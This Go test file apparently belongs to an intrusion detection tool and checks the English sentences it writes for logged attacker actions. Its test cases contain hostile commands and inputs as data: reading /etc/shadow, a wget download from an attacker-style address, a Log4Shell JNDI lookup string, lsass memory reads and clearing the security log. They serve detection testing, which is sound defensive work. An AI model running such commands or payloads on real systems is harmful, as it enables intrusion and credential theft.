package campaign

import (
	"testing"
	"time"

	"github.com/tocsin-ids/tocsin"
)

// A deed is said by how the record tells of it, not by the verb that it serves.
func TestSayings(t *testing.T) {
	for _, c := range []struct {
		log, verb, text string
		outcome         tocsin.Outcome
		n               int
		want            string
	}{
		{"program", "read", "cat /etc/shadow", tocsin.Worked, 1, "ran cat /etc/shadow on web1"},
		{"line", "copy", "wget http://198.51.100.9/x", tocsin.Unknown, 3, "ran wget http://198.51.100.9/x and 2 more such acts on web1"},
		{"session", "list", "ls -la\ncat x", tocsin.Failed, 2, "ran ls -la cat x and 1 more such act on web1, which failed"},
		{"session", "call", "WebSearch tocsin", tocsin.Worked, 1, "called WebSearch tocsin on web1"},
		{"session", "request", "GET http://192.0.2.9/", tocsin.Denied, 2, "requested GET http://192.0.2.9/ and 1 more such act on web1, which were refused"},
		{"request", "probe", "GET /?x=${jndi:ldap://203.0.113.5/a}", tocsin.Unknown, 1, "tried GET /?x=${jndi:ldap://203.0.113.5/a} on web1"},
		{"", "copy", "GET http://198.51.100.9/x.exe", tocsin.Worked, 1, "requested GET http://198.51.100.9/x.exe on web1"},
		{"api", "read", "s3:GetObject", tocsin.Worked, 1, "called s3:GetObject on web1"},
		{"api", "list", "list secrets in shop", tocsin.Denied, 1, "asked to list secrets in shop on web1, which was refused"},
		{"login", "login", "login as ann", tocsin.Worked, 1, "logged in as ann on web1"},
		{"login", "login", "login as ann", tocsin.Failed, 1, "tried to log in as ann on web1, which failed"},
		{"login", "login", "login as ann", tocsin.Unknown, 1, "tried to log in as ann on web1"},
		{"login", "login", "login", tocsin.Failed, 2, "login (2 times) on web1"},
		{"login", "login", "explicit credentials of ann", tocsin.Worked, 1, "explicit credentials of ann on web1"},
		{"", "write", `C:\Windows\Temp\a.dmp`, tocsin.Worked, 1, `wrote C:\Windows\Temp\a.dmp on web1`},
		{"", "write", "/etc/cron.d/x", tocsin.Denied, 1, "tried to write /etc/cron.d/x on web1, which was refused"},
		{"", "read", "memory of lsass read by a.exe", tocsin.Worked, 1, "memory of lsass read by a.exe on web1"},
		{"", "delete", "security log cleared", tocsin.Worked, 1, "security log cleared on web1"},
		{"", "delete", "delete account eve", tocsin.Worked, 1, "deleted account eve on web1"},
		{"", "create", "updater: %COMSPEC% /c a.bat", tocsin.Worked, 1, "created updater: %COMSPEC% /c a.bat on web1"},
		{"", "list", "samr: SamrEnumerateDomainsInSamServer", tocsin.Worked, 1, "called samr: SamrEnumerateDomainsInSamServer on web1"},
		{"", "read", `\\*\C$\a.exe`, tocsin.Worked, 1, `opened \\*\C$\a.exe on web1`},
		{"", "connect", "192.0.2.7:443", tocsin.Worked, 5, "connected to 192.0.2.7:443 and 4 more such acts on web1"},
		{"", "connect", "tls to 192.0.2.7:443", tocsin.Failed, 1, "tried to connect by TLS to 192.0.2.7:443 on web1, which failed"},
		{"", "alert", "malware found by Windows Defender", tocsin.Unknown, 1, "malware found by Windows Defender on web1"},
		{"", "scan", "", tocsin.Unknown, 2, "scanned 192.0.2.1 and 1 more such act on web1"},
	} {
		d := &tocsin.Deed{Action: tocsin.Action{Log: c.log, Verb: c.verb, Text: c.text, Outcome: c.outcome, Host: "web1", On: []tocsin.Entity{{Kind: "address", Value: "192.0.2.8"}, {Kind: "address", Value: "192.0.2.1"}}}, N: c.n}
		d.Mention("address:192.0.2.8", tocsin.Place{Source: "a.log", Record: 2}, time.Time{}) // which the first record does not have
		if got := done(d, c.n); got != c.want {
			t.Errorf("%s %s %q\n got %s\nwant %s", c.log, c.verb, c.text, got, c.want)
		}
		d.Rules = []*tocsin.Rule{{Title: "Secrets read"}}
		want := "Secrets read at web1"
		if c.n > 1 {
			want = counted("Secrets read", c.n) + " at web1"
		}
		if got := done(d, c.n); got != want {
			t.Errorf("by a rule: %s, want %s", got, want)
		}
	}
}
